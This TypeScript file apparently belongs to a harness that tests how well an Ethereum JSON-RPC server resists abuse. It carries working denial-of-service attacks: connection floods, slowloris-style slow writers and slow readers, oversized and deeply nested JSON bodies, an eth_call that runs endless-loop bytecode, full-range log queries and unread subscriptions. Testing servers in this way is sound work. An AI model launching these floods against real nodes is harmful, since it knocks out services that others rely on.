// Abuse of the RPC server: connections, bodies, batches and calls that cost it more than they cost their sender.
import { connect, type Socket } from 'node:net';
import { WebSocket } from 'ws';
import { type Attack, type AttackContext, loops, pause, post, requestText } from './attack.ts';
import { countRefusal } from './outcomes.ts';

const CONNECTIONS = 10_000;
/** Sockets opened at once, so that the kernel's queue of half-open ones is not what refuses. */
const OPENED_TOGETHER = 200;
const SLOW_CLIENTS = 200;
const SLOW_WRITE_MS = 200;
const SUBSCRIBERS = 50;
/** JUMPDEST, PUSH1 0, JUMP: runs until its gas or its time is over. */
const ENDLESS_CODE = '0x5b600056';
const LOOP_ADDRESS = `0x${'ab'.repeat(20)}`;

function open({ url, outcomes }: AttackContext): Promise<Socket | undefined> {
  const { port, hostname } = new URL(url);
  return new Promise((resolve) => {
    const socket = connect(Number(port), hostname, () => resolve(socket));
    socket.on('error', (error) => {
      countRefusal(outcomes, error.message);
      resolve(undefined);
    });
    socket.on('close', () => countRefusal(outcomes, 'connection closed by the server'));
  });
}

async function openMany(context: AttackContext, count: number): Promise<Socket[]> {
  const sockets: Socket[] = [];
  while (sockets.length < count && context.goesOn()) {
    const opened = await Promise.all(Array.from({ length: OPENED_TOGETHER }, () => open(context)));
    sockets.push(...opened.filter((socket) => socket !== undefined));
  }
  return sockets;
}

async function hold(context: AttackContext, sockets: readonly Socket[]): Promise<void> {
  await pause(context.leftMs());
  context.outcomes.accepted += sockets.filter((socket) => !socket.destroyed).length;
  for (const socket of sockets) socket.removeAllListeners('close').destroy();
}

function httpHead(url: string, length: number): string {
  return `POST / HTTP/1.1\r\nHost: ${new URL(url).host}\r\nContent-Type: application/json\r\nContent-Length: ${length}\r\n\r\n`;
}

/** Asks for much, again and again, and reads nothing. */
async function slowReaders(context: AttackContext): Promise<void> {
  const sockets = await openMany(context, SLOW_CLIENTS);
  const body = `[${Array.from({ length: 100 }, (_, id) => requestText('eth_getBlockByNumber', ['latest', true], id)).join(',')}]`;
  for (const socket of sockets) {
    socket.pause();
    for (let i = 0; i < 20; i++) socket.write(httpHead(context.url, body.length) + body);
  }
  await hold(context, sockets);
}

/** Sends a request byte by byte. */
async function slowWriters(context: AttackContext): Promise<void> {
  const sockets = await openMany(context, SLOW_CLIENTS);
  const text = httpHead(context.url, 4_000_000);
  for (let at = 0; context.goesOn(); at++) {
    for (const socket of sockets) if (!socket.destroyed) socket.write(text[at % text.length] ?? '[');
    await pause(SLOW_WRITE_MS);
  }
  await hold(context, sockets);
}

async function subscriptions(context: AttackContext): Promise<void> {
  const sockets = Array.from({ length: SUBSCRIBERS }, () => {
    const socket = new WebSocket(context.url.replace('http', 'ws'));
    socket.on('error', (error) => countRefusal(context.outcomes, error.message));
    socket.on('close', () => countRefusal(context.outcomes, 'connection closed by the server'));
    socket.on('open', () => {
      for (let id = 0; id < 120; id++)
        socket.send(requestText('eth_subscribe', [id % 2 === 0 ? 'newHeads' : 'newPendingTransactions'], id));
      socket.pause();
    });
    return socket;
  });
  await pause(context.leftMs());
  for (const socket of sockets) {
    if (socket.readyState === WebSocket.OPEN) context.outcomes.accepted++;
    socket.removeAllListeners('close').terminate();
  }
}

const endlessCall = requestText('eth_call', [
  { to: LOOP_ADDRESS, gas: '0x1c9c380' },
  'latest',
  { [LOOP_ADDRESS]: { code: ENDLESS_CODE } },
]);
const largestBody = Buffer.alloc(5 * 1024 * 1024, ' ');
const tooLargeBody = Buffer.alloc(5 * 1024 * 1024 + 1, ' ');
const batchOf = (count: number, method: string): string =>
  `[${Array.from({ length: count }, (_, id) => requestText(method, ['latest', true], id)).join(',')}]`;

export const RPC_ATTACKS: Readonly<Record<string, Attack>> = {
  '10,000 connections': async (context) => hold(context, await openMany(context, CONNECTIONS)),
  'slow readers': slowReaders,
  'slow writers': slowWriters,
  'huge batches': (context) => loops(context, 4, () => post(context, batchOf(101, 'eth_getBlockByNumber'))),
  'full batches': (context) => loops(context, 4, () => post(context, batchOf(100, 'eth_getBlockByNumber'))),
  'deep JSON': (context) => loops(context, 4, () => post(context, '['.repeat(1_000_000))),
  'largest bodies': (context) => loops(context, 8, () => post(context, largestBody)),
  'bodies too large': (context) => loops(context, 8, () => post(context, tooLargeBody)),
  'endless calls': (context) => loops(context, 32, () => post(context, endlessCall)),
  'logs of everything': (context) =>
    loops(context, 8, () => post(context, requestText('eth_getLogs', [{ fromBlock: 'earliest', toBlock: 'latest' }]))),
  'filters never read': (context) =>
    loops(context, 8, () => post(context, requestText('eth_newPendingTransactionFilter', []))),
  'subscriptions never read': subscriptions,
};
